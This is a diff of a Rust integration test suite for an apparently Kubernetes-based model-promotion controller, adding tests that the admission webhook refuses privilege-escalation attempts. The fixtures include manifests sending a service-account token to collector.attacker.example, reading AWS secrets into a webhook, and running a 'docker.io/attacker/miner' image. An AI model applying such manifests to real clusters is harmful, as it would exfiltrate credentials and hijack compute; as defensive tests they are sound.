@@ -4,49 +4,17 @@
 
 mod support;
 
-use std::process::{Child, Command, Stdio};
 use std::time::Duration;
 
+use support::admission::Controller;
 use support::apiserver::ApiServer;
-use support::{eventually, free_port, root};
+use support::{eventually, root};
 
 /// Version 8's artifact digest as registered in the examples.
 const DIGEST_8: &str = "sha256:9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b";
 /// Version 7's.
 const DIGEST_7: &str = "sha256:0f3e9b7a2c4d6e8f1a3b5c7d9e0f2a4b6c8d0e1f3a5b7c9d1e3f5a7b9c0d2e4f";
 const PRODUCTION: &str = "pitch-frame-classifier-production";
-
-/// `slipway controller` without the admission webhook; killed on drop.
-struct Controller {
-    child: Child,
-    log: std::path::PathBuf,
-}
-
-impl Controller {
-    fn start(api: &ApiServer) -> Controller {
-        let log = api.dir.path().join("controller.log");
-        let child = Command::new(env!("CARGO_BIN_EXE_slipway"))
-            .args(["controller", "--listen"])
-            .arg(format!("127.0.0.1:{}", free_port()))
-            .env("KUBECONFIG", &api.kubeconfig)
-            .stdout(Stdio::null())
-            .stderr(std::fs::File::create(&log).unwrap())
-            .spawn()
-            .unwrap();
-        Controller { child, log }
-    }
-
-    fn log(&self) -> String {
-        std::fs::read_to_string(&self.log).unwrap_or_default()
-    }
-}
-
-impl Drop for Controller {
-    fn drop(&mut self) {
-        let _ = self.child.kill();
-        let _ = self.child.wait();
-    }
-}
 
 fn apply(api: &ApiServer, user: &str, yaml: &str) {
     let run = api.kubectl_stdin(&["apply", "-f", "-"], user, yaml);
@@ -66,7 +34,21 @@ fn get(api: &ApiServer, what: &[&str], path: &str) -> String {
 fn registry(api: &ApiServer) {
     api.install_crds();
     let examples = root().join("examples/football-frames");
-    for file in ["model.yaml", "versions.yaml", "aliases.yaml", "policies.yaml"] {
+    // The example's channels read secrets from git mode's environment, which a cluster refuses.
+    let mut model: serde_json::Value =
+        serde_yaml::from_str(&std::fs::read_to_string(examples.join("model.yaml")).unwrap())
+            .unwrap();
+    model["spec"]
+        .as_object_mut()
+        .unwrap()
+        .remove("notifications");
+    apply(api, "admin", &serde_json::to_string(&model).unwrap());
+    for file in [
+        "versions.yaml",
+        "aliases.yaml",
+        "deployments.yaml",
+        "policies.yaml",
+    ] {
         let run = api.kubectl(
             &["apply", "-f", &examples.join(file).to_string_lossy()],
             "admin",
@@ -75,7 +57,9 @@ fn registry(api: &ApiServer) {
     }
     // Version 8's results against 7, and (for a move back) 7's against 8, as the controller
     // would have recorded them.
-    let eight = std::fs::read_to_string(root().join("examples/promotion-pr/results/pitch-frames-8.yaml")).unwrap();
+    let eight =
+        std::fs::read_to_string(root().join("examples/promotion-pr/results/pitch-frames-8.yaml"))
+            .unwrap();
     let seven = eight
         .replace("-8-pitch-frames", "-7-pitch-frames")
         .replace("version: \"8\"", "version: \"7\"")
@@ -140,7 +124,7 @@ fn ready(api: &ApiServer) -> String {
 fn a_move_admitted_without_the_webhook_is_held_until_that_exact_move_is_approved() {
     let api = ApiServer::start();
     registry(&api);
-    let controller = Controller::start(&api);
+    let controller = Controller::without_webhook(&api, &support::OPEN_BOUNDS);
     eventually(Duration::from_secs(30), || {
         ready(&api).starts_with("7 Resolved").then_some(())
     });
@@ -182,8 +166,269 @@ fn a_move_admitted_without_the_webhook_is_held_until_that_exact_move_is_approved
     });
     apply(&api, "admin", &production("8"));
     eventually(Duration::from_secs(30), || {
-        ready(&api)
-            .starts_with("7 PromotionBlocked")
-            .then_some(())
+        ready(&api).starts_with("7 PromotionBlocked").then_some(())
     });
+}
+
+/// The operator's bounds of the attack tests: a chart's values as a careful platform team sets
+/// them.
+const STRICT_BOUNDS: [(&str, &str); 7] = [
+    ("SLIPWAY_ALLOWED_DESTINATIONS", "hooks.slack.com,127.0.0.1"),
+    ("SLIPWAY_ALLOWED_IMAGES", "registry.example.com/ml/*"),
+    ("SLIPWAY_ALLOWED_SERVICE_ACCOUNTS", "evaluator"),
+    ("SLIPWAY_MAX_CPU", "4"),
+    ("SLIPWAY_MAX_MEMORY", "16Gi"),
+    (
+        "SLIPWAY_ALLOWED_ENDPOINT_URLS",
+        "https://api.sagemaker.eu-west-1.amazonaws.com",
+    ),
+    (
+        "SLIPWAY_ALLOWED_EXECUTION_ROLES",
+        "arn:aws:iam::111122223333:role/slipway-*",
+    ),
+];
+
+/// What `user` gets for applying `yaml`: the exit code and stderr.
+fn attempt(api: &ApiServer, user: &str, args: &[&str], yaml: &str) -> (i32, String) {
+    let run = api.kubectl_stdin(args, user, yaml);
+    (run.code, run.stderr)
+}
+
+fn refused(api: &ApiServer, user: &str, yaml: &str, needles: &[&str]) {
+    let (code, stderr) = attempt(api, user, &["apply", "-f", "-"], yaml);
+    assert_ne!(code, 0, "admitted:\n{yaml}");
+    assert!(stderr.contains("denied the request"), "{stderr}");
+    for n in needles {
+        assert!(stderr.contains(n), "{n}\n{stderr}");
+    }
+}
+
+/// erin holds the chart's promoter role. Every other way to change what production serves or
+/// how a candidate is judged, or to make the controller run code or send secrets where she
+/// likes, is refused at admission with the reason; the allowed path is next to each.
+#[test]
+fn a_promoter_cannot_reach_production_or_the_controllers_powers_another_way() {
+    let api = ApiServer::start();
+    registry(&api);
+    let run = api.kubectl_stdin(&["apply", "-f", "-"], "admin", &support::admission::rbac());
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let port = support::free_port();
+    apply(
+        &api,
+        "admin",
+        &support::admission::webhook_configurations(port),
+    );
+    let controller = Controller::start(&api, port, &STRICT_BOUNDS);
+    eventually(Duration::from_secs(30), || {
+        (!get(
+            &api,
+            &["validatingwebhookconfiguration", "slipway"],
+            "{.webhooks[0].clientConfig.caBundle}",
+        )
+        .is_empty())
+        .then_some(())
+    });
+
+    // Pinning the production deployment to another version: a lead must approve exactly it.
+    let pin = r#"[{"op": "remove", "path": "/spec/alias"}, {"op": "add", "path": "/spec/version", "value": "7"}]"#;
+    let patch = [
+        "patch",
+        "mdeploy",
+        "pitch-frames-api",
+        "--type=json",
+        "-p",
+        pin,
+    ];
+    let run = api.kubectl(&patch, "erin");
+    assert_ne!(run.code, 0, "{}", controller.log());
+    for needle in [
+        "ModelDeployment default/pitch-frames-api: changing spec.alias, spec.version (requested by erin) is not allowed",
+        "policy production-deployments, approval ml-lead: has 0 of 1 required approvals",
+    ] {
+        assert!(run.stderr.contains(needle), "{needle}\n{}", run.stderr);
+    }
+    let at = run.stderr.find("spec.change \"").unwrap() + "spec.change \"".len();
+    let change = &run.stderr[at..at + 71];
+    let approve = format!(
+        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: pin-7, namespace: default}}\nspec:\n  target: {{kind: ModelDeployment, name: pitch-frames-api}}\n  change: \"{change}\"\n  decision: approve\n"
+    );
+    let (code, stderr) = attempt(&api, "erin", &["create", "-f", "-"], &approve);
+    assert!(code != 0 && stderr.contains("forbidden"), "{stderr}");
+    let (code, stderr) = attempt(&api, "alice", &["create", "-f", "-"], &approve);
+    assert_eq!(code, 0, "{stderr}");
+    let run = api.kubectl(&patch, "erin");
+    assert_eq!(run.code, 0, "{}", run.stderr);
+
+    // Loosening how candidates are judged: the gates, the tolerance.
+    for (path, value) in [
+        ("/spec/evaluations/0/gates", "[]"),
+        ("/spec/primaryMetric/maxRegression", "0.5"),
+    ] {
+        let p = format!(r#"[{{"op": "replace", "path": "{path}", "value": {value}}}]"#);
+        let run = api.kubectl(
+            &[
+                "patch",
+                "rmodel",
+                "pitch-frame-classifier",
+                "--type=json",
+                "-p",
+                &p,
+            ],
+            "erin",
+        );
+        assert_ne!(run.code, 0, "{path}");
+        assert!(
+            run.stderr
+                .contains("policy model-judging, approval ml-lead"),
+            "{}",
+            run.stderr
+        );
+    }
+    // Results of one's own making: an Evaluation of the model's suite with no gates.
+    let results =
+        std::fs::read_to_string(root().join("examples/promotion-pr/results/pitch-frames-8.yaml"))
+            .unwrap();
+    let own = results
+        .replace(
+            "name: pitch-frame-classifier-8-pitch-frames",
+            "name: my-own-results",
+        )
+        .split("\nstatus:")
+        .next()
+        .unwrap()
+        .replace("    - {metric: macro_f1, op: \">=\", value: 0.80}\n", "");
+    refused(
+        &api,
+        "erin",
+        &own,
+        &["its gates differ from suite `pitch-frames` of model pitch-frame-classifier"],
+    );
+
+    // The controller's secrets and other Secrets of the namespace.
+    let model = |spec: &str| {
+        format!(
+            "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {{name: side-project, namespace: default}}\nspec:\n{spec}"
+        )
+    };
+    refused(
+        &api,
+        "erin",
+        &model(
+            "  notifications:\n    - name: x\n      events: [AliasMoved]\n      slack: {webhookUrl: {env: AWS_SECRET_ACCESS_KEY}}\n",
+        ),
+        &["spec.notifications[0].slack.webhookUrl: env: and file: secret references"],
+    );
+    refused(
+        &api,
+        "erin",
+        &model(
+            "  notifications:\n    - name: x\n      events: [AliasMoved]\n      webhook:\n        url: https://collector.attacker.example/\n        headers: {X-Token: {file: /var/run/secrets/kubernetes.io/serviceaccount/token}}\n",
+        ),
+        &[
+            "spec.notifications[0].webhook.url: host collector.attacker.example is not among the destinations the operator allows",
+            "spec.notifications[0].webhook.headers.X-Token: env: and file:",
+        ],
+    );
+    // Workloads on someone else's behalf: an image and a service account of her choosing.
+    let runner = |kubernetes: &str| {
+        model(&format!(
+            "  evaluations:\n    - name: smoke\n      runner:\n        kubernetes: {kubernetes}\n      dataset: {{uri: \"s3://d/\"}}\n"
+        ))
+    };
+    refused(
+        &api,
+        "erin",
+        &runner(
+            "{image: docker.io/attacker/miner, serviceAccountName: slipway, resources: {limits: {cpu: \"64\"}}}",
+        ),
+        &[
+            "image docker.io/attacker/miner is not among the images the operator allows (registry.example.com/ml/*)",
+            "service account slipway is not among those the operator lets evaluation Jobs use (evaluator)",
+            "spec.evaluations[0].runner.kubernetes.resources.limits.cpu: 64 is more than the operator allows",
+        ],
+    );
+    let deployment = |image: &str| {
+        format!(
+            "apiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {{name: side-api, namespace: default}}\nspec:\n  model: pitch-frame-classifier\n  alias: staging\n  target:\n    kubernetes: {{image: {image}, port: 8080}}\n"
+        )
+    };
+    refused(
+        &api,
+        "erin",
+        &deployment("docker.io/attacker/miner"),
+        &["spec.target.kubernetes.image: image docker.io/attacker/miner is not among"],
+    );
+    // SageMaker: the controller's signed requests to an address of her choosing, its roles.
+    let sagemaker = "apiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {name: side-endpoint, namespace: default}\nspec:\n  model: pitch-frame-classifier\n  alias: staging\n  target:\n    sagemaker: {endpointName: side, endpointUrl: \"http://collector.attacker.example\", executionRoleArn: \"arn:aws:iam::111122223333:role/admin\", image: img, instanceType: ml.m5.large}\n";
+    refused(
+        &api,
+        "erin",
+        sagemaker,
+        &[
+            "spec.target.sagemaker.endpointUrl: `http://collector.attacker.example` is plain HTTP",
+            "spec.target.sagemaker.executionRoleArn: role arn:aws:iam::111122223333:role/admin is not among",
+        ],
+    );
+
+    // The allowed paths: an experiment of her own with an allowed image, a Slack channel with a
+    // Secret that opted in, a staging deployment of an allowed image.
+    apply(
+        &api,
+        "erin",
+        &runner("{image: \"registry.example.com/ml/eval:1\", resources: {limits: {cpu: \"2\"}}}"),
+    );
+    apply(
+        &api,
+        "erin",
+        // (A second model: changing the first one's suites or channels now needs a lead.)
+        &model(
+            "  notifications:\n    - name: x\n      events: [AliasMoved]\n      slack: {webhookUrl: {secretKeyRef: {name: slack, key: url}}}\n",
+        )
+        .replace("name: side-project", "name: side-channel"),
+    );
+    apply(&api, "erin", &deployment("registry.example.com/ml/serve:1"));
+}
+
+/// Objects admitted while the webhook was not called (not installed, `failurePolicy: Ignore`,
+/// down) still cannot make the controller run an image, or use a service account, outside the
+/// operator's bounds: the evaluation fails and the deployment stalls, saying why, and no Job or
+/// Deployment is created.
+#[test]
+fn outside_the_bounds_nothing_runs_even_without_the_webhook() {
+    let api = ApiServer::start();
+    api.install_crds();
+    let _controller = Controller::without_webhook(&api, &STRICT_BOUNDS);
+    apply(
+        &api,
+        "admin",
+        "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: miner, namespace: default}\nspec:\n  evaluations:\n    - name: smoke\n      runner:\n        kubernetes: {image: docker.io/attacker/miner, serviceAccountName: slipway}\n      dataset: {uri: \"s3://d/\"}\n---\napiVersion: slipway.dev/v1alpha1\nkind: ModelVersion\nmetadata: {name: miner-1, namespace: default}\nspec: {model: miner, version: \"1\", artifact: {uri: \"s3://m/1\", digest: \"sha256:01\"}}\n---\napiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {name: miner-api, namespace: default}\nspec:\n  model: miner\n  version: \"1\"\n  target:\n    kubernetes: {image: docker.io/attacker/miner, port: 8080}\n",
+    );
+    let evaluation = eventually(Duration::from_secs(60), || {
+        let m = get(
+            &api,
+            &["meval", "miner-1-smoke"],
+            "{.status.phase}: {.status.conditions[0].message}",
+        );
+        m.starts_with("Failed").then_some(m)
+    });
+    assert!(
+        evaluation
+            .contains("image docker.io/attacker/miner is not among the images the operator allows")
+            && evaluation.contains("service account slipway is not among"),
+        "{evaluation}"
+    );
+    let deployment = eventually(Duration::from_secs(60), || {
+        let m = get(
+            &api,
+            &["mdeploy", "miner-api"],
+            "{.status.conditions[?(@.type==\"Stalled\")].reason}: {.status.conditions[?(@.type==\"Stalled\")].message}",
+        );
+        m.starts_with("OutsideBounds").then_some(m)
+    });
+    assert!(
+        deployment.contains("spec.target.kubernetes.image: image docker.io/attacker/miner"),
+        "{deployment}"
+    );
+    let created = api.kubectl(&["get", "jobs,deployments", "-o", "name"], "admin");
+    assert_eq!(created.stdout.trim(), "", "{}", created.stderr);
 }
